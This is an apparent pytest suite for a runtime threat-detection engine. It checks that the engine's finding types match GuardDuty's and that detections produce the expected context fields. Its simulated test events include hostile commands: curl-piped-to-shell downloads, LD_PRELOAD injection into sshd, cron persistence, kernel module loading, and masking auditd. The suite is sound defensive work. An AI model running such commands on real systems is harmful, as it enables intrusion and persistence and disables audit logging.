"""The runtime detection pack: every GuardDuty Runtime Monitoring type, its default severity and context fields.

GIVEN the registry, THEN it holds exactly GuardDuty's runtime finding types (incl. the .Custom
variant) with GuardDuty's default severities; stateful baselines fire once per key across batches.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from vigil import sample as s
from vigil import severity
from vigil.detection import Context
from vigil.engine import Engine
from vigil.findings import occurrences
from vigil.intel.builtin import builtin_intel
from vigil.registry import all_detections
from vigil.state import InMemoryState

H, M, L = severity.HIGH, severity.MEDIUM, severity.LOW
GUARDDUTY_RUNTIME_TYPES = {
    "CryptoCurrency:Runtime/BitcoinTool.B": H, "Backdoor:Runtime/C&CActivity.B": H,
    "UnauthorizedAccess:Runtime/TorRelay": H, "UnauthorizedAccess:Runtime/TorClient": H,
    "Trojan:Runtime/BlackholeTraffic": M, "Trojan:Runtime/DropPoint": M,
    "CryptoCurrency:Runtime/BitcoinTool.B!DNS": H, "Backdoor:Runtime/C&CActivity.B!DNS": H,
    "Trojan:Runtime/BlackholeTraffic!DNS": M, "Trojan:Runtime/DropPoint!DNS": M,
    "Trojan:Runtime/DGADomainRequest.C!DNS": H, "Trojan:Runtime/DriveBySourceTraffic!DNS": H,
    "Trojan:Runtime/PhishingDomainRequest!DNS": H, "Impact:Runtime/AbusedDomainRequest.Reputation": M,
    "Impact:Runtime/BitcoinDomainRequest.Reputation": H, "Impact:Runtime/MaliciousDomainRequest.Reputation": H,
    "Impact:Runtime/SuspiciousDomainRequest.Reputation": L, "UnauthorizedAccess:Runtime/MetadataDNSRebind": H,
    "Execution:Runtime/NewBinaryExecuted": M, "Execution:Runtime/NewLibraryLoaded": M,
    "Execution:Runtime/ReverseShell": H, "Execution:Runtime/SuspiciousShellCreated": L,
    "Execution:Runtime/SuspiciousTool": H, "Execution:Runtime/SuspiciousCommand": M,
    "Execution:Runtime/MaliciousFileExecuted": H, "Execution:Runtime/MaliciousFileExecuted.Custom": H,
    "Impact:Runtime/CryptoMinerExecuted": H, "DefenseEvasion:Runtime/FilelessExecution": M,
    "DefenseEvasion:Runtime/ProcessInjection.Proc": H, "DefenseEvasion:Runtime/ProcessInjection.Ptrace": M,
    "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": H, "DefenseEvasion:Runtime/PtraceAntiDebugging": L,
    "DefenseEvasion:Runtime/SuspiciousCommand": M, "DefenseEvasion:Runtime/KernelModuleLoaded": H,
    "Discovery:Runtime/SuspiciousCommand": L, "Persistence:Runtime/SuspiciousCommand": M,
    "PrivilegeEscalation:Runtime/SuspiciousCommand": M, "PrivilegeEscalation:Runtime/ElevationToRoot": M,
    "PrivilegeEscalation:Runtime/DockerSocketAccessed": M, "PrivilegeEscalation:Runtime/RuncContainerEscape": H,
    "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified": H,
    "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory": M, "PrivilegeEscalation:Runtime/UserfaultfdUsage": M,
    "Persistence:Runtime/SensitiveFileModified": M, "PrivilegeEscalation:Runtime/SensitiveFileModified": M,
    "DefenseEvasion:Runtime/SensitiveFileModified": M,
}  # fmt: skip


# Vigil-specific types (issue 17): GuardDuty has no runtime type for these behaviours; each is named
# in GuardDuty's pattern and listed in docs/detections.md.
VIGIL_SPECIFIC_TYPES = {
    "CredentialAccess:Runtime/SuspiciousCommand": M, "CredentialAccess:Runtime/SensitiveFileRead": M,
    "Execution:Runtime/ShellEscape": M, "Exfiltration:Runtime/SuspiciousCommand": M,
    "Impact:Runtime/SuspiciousCommand": M, "Collection:Runtime/SuspiciousCommand": M,
    "Execution:Runtime/DownloadPipedToShell": M, "Execution:Runtime/DownloadedFileExecuted": M,
}  # fmt: skip


def test_the_registry_holds_the_guardduty_runtime_types_and_the_documented_vigil_specific_ones() -> None:
    got = {d.meta.type: d.meta.severity for d in all_detections() if not d.meta.ec2}
    assert {t: s for t, s in got.items() if t in GUARDDUTY_RUNTIME_TYPES} == GUARDDUTY_RUNTIME_TYPES
    assert len(GUARDDUTY_RUNTIME_TYPES) == 46
    assert {t: s for t, s in got.items() if t not in GUARDDUTY_RUNTIME_TYPES} == VIGIL_SPECIFIC_TYPES
    doc = (Path(__file__).resolve().parents[3] / "docs" / "detections.md").read_text()
    undocumented = [t for t in VIGIL_SPECIFIC_TYPES if f"`{t}`" not in doc]
    assert undocumented == [], "list every Vigil-specific type in docs/detections.md"


# GuardDuty's EC2 types (reference §3, every one but Malware Protection's; docs/sources.md), with
# their default severities (the brute-force types and PortProbeUnprotectedPort are Low by default,
# High when the instance is the actor / for Elasticsearch; NetworkPortUnusual High for 389/1389)
GUARDDUTY_EC2_TYPES = {
    "Recon:EC2/Portscan": M, "Impact:EC2/PortSweep": H, "UnauthorizedAccess:EC2/SSHBruteForce": L,
    "UnauthorizedAccess:EC2/RDPBruteForce": L, "Impact:EC2/WinRMBruteForce": L,
    "Trojan:EC2/DNSDataExfiltration": H, "Backdoor:EC2/DenialOfService.Udp": H,
    "Backdoor:EC2/DenialOfService.Dns": H, "Backdoor:EC2/DenialOfService.Tcp": H,
    "Backdoor:EC2/DenialOfService.UdpOnTcpPorts": H, "Backdoor:EC2/DenialOfService.UnusualProtocol": H,
    "Backdoor:EC2/C&CActivity.B": H, "Backdoor:EC2/C&CActivity.B!DNS": H, "Backdoor:EC2/Spambot": M,
    "Behavior:EC2/NetworkPortUnusual": M, "Behavior:EC2/TrafficVolumeUnusual": M,
    "CryptoCurrency:EC2/BitcoinTool.B": H, "CryptoCurrency:EC2/BitcoinTool.B!DNS": H,
    "DefenseEvasion:EC2/UnusualDNSResolver": M, "DefenseEvasion:EC2/UnusualDoHActivity": M,
    "DefenseEvasion:EC2/UnusualDoTActivity": M, "Impact:EC2/AbusedDomainRequest.Reputation": M,
    "Impact:EC2/BitcoinDomainRequest.Reputation": H, "Impact:EC2/MaliciousDomainRequest.Reputation": H,
    "Impact:EC2/SuspiciousDomainRequest.Reputation": L, "Impact:EC2/MaliciousDomainRequest.Custom": M,
    "Recon:EC2/PortProbeUnprotectedPort": L, "Recon:EC2/PortProbeEMRUnprotectedPort": H,
    "Trojan:EC2/BlackholeTraffic": M, "Trojan:EC2/BlackholeTraffic!DNS": M, "Trojan:EC2/DropPoint": M,
    "Trojan:EC2/DropPoint!DNS": M, "Trojan:EC2/DGADomainRequest.B": H, "Trojan:EC2/DGADomainRequest.C!DNS": H,
    "Trojan:EC2/DriveBySourceTraffic!DNS": H, "Trojan:EC2/PhishingDomainRequest!DNS": H,
    "UnauthorizedAccess:EC2/MaliciousIPCaller.Custom": M, "UnauthorizedAccess:EC2/MetadataDNSRebind": H,
    "UnauthorizedAccess:EC2/TorClient": H, "UnauthorizedAccess:EC2/TorRelay": H,
    "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS": H,
    "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS": H,
}  # fmt: skip


def test_the_registry_holds_the_implemented_guardduty_ec2_types_with_default_severities() -> None:
    got = {d.meta.type: d.meta.severity for d in all_detections() if d.meta.ec2}
    assert got == GUARDDUTY_EC2_TYPES
    assert len(GUARDDUTY_EC2_TYPES) == 42


def _findings(events, state=None, intel=None):  # type: ignore[no-untyped-def]
    engine = Engine(all_detections(), intel=intel or builtin_intel())
    state = state or InMemoryState()
    run = engine.run(events, state)
    return occurrences(run.matches, Context(state=state, intel=engine.intel), account_id="1", region="r")


@pytest.mark.parametrize(
    ("event", "ftype", "context"),
    [
        (s.exec_(s.proc("/usr/sbin/sshd", uid=0, ld_preload="/tmp/.l/x.so")), "DefenseEvasion:Runtime/SuspiciousCommand",
         {"commandLineExample": "sshd", "ldPreloadValue": "/tmp/.l/x.so"}),
        (s.unix_connect(s.proc("/usr/bin/curl", container="c1"), "/run/docker.sock"), "PrivilegeEscalation:Runtime/DockerSocketAccessed",
         {"socketPath": "/run/docker.sock"}),
        (s.file_op(s.proc("/usr/bin/mv", uid=0), "file_rename", "/tmp/k", new_path="/etc/cron.d/k"),
         "Persistence:Runtime/SensitiveFileModified", {"fileOperation": "Rename", "filePath": "/etc/cron.d/k", "relatedFilePaths": ["/tmp/k"]}),
        (s.module_load(s.proc("/usr/sbin/insmod", uid=0), "rk", "/tmp/rk.ko", sha256="ab" * 32), "DefenseEvasion:Runtime/KernelModuleLoaded",
         {"moduleName": "rk", "moduleFilePath": "/tmp/rk.ko", "moduleSha256": "ab" * 32}),
        (s.exec_(s.proc("/usr/bin/systemctl", "mask", "auditd", uid=0)), "DefenseEvasion:Runtime/SuspiciousCommand",
         {"commandLineExample": "systemctl mask auditd", "serviceName": "auditd"}),
    ],
)  # fmt: skip
def test_context_fields(event, ftype, context) -> None:  # type: ignore[no-untyped-def]
    (o,) = [o for o in _findings([event]) if o.finding["type"] == ftype]
    assert o.finding["service"]["runtimeDetails"]["context"] == context


def test_injection_names_the_target_process() -> None:
    (o,) = _findings([s.inject(s.proc("/tmp/i", uid=0), "process_vm_write", s.SSHD)])
    assert (
        o.finding["service"]["runtimeDetails"]["context"]["targetProcess"]["executablePath"]
        == "/usr/sbin/sshd"
    )


def test_variable_severities() -> None:
    def sev(cmd: str) -> float:
        (o,) = _findings([s.exec_(s.proc("/bin/sh", "-c", cmd))])
        return float(o.finding["severity"])

    assert sev("curl http://198.51.100.9/a | sh") == H
    assert sev("curl https://get.example.net/a | sh") == M
    (low,) = _findings([s.exec_(s.proc("/usr/bin/crontab", "-r"))])
    assert low.finding["severity"] == L


def test_elevation_to_root_baseline_fires_once_per_program_per_instance_across_batches() -> None:
    state = InMemoryState()
    ev = s.exec_(s.proc("/tmp/.sh", "-p", uid=33, euid=0))
    assert [o.finding["type"] for o in _findings([ev], state)] == [
        "PrivilegeEscalation:Runtime/ElevationToRoot"
    ]
    state.commit()
    assert _findings([s.exec_(s.proc("/tmp/.sh", "-p", uid=33, euid=0))], state) == []
    other = s.exec_(
        s.proc("/tmp/.sh", "-p", uid=33, euid=0), device=s.DEVICE.__class__(instance_uid="i-other")
    )
    assert len(_findings([other], state)) == 1


def test_dns_tunnel_volume_is_counted_across_batches_in_the_state() -> None:
    state = InMemoryState()

    def q(i: int):  # type: ignore[no-untyped-def]
        return s.dns(
            f"{hashlib.sha256(str(i).encode()).hexdigest()[:48]}.t.qx-relay.net", t=i * 1_000_000_000
        )

    assert _findings([q(i) for i in range(15)], state) == []
    state.commit()
    found = _findings([q(i) for i in range(15, 25)], state)
    assert {o.finding["type"] for o in found} == {"Impact:Runtime/MaliciousDomainRequest.Reputation"}
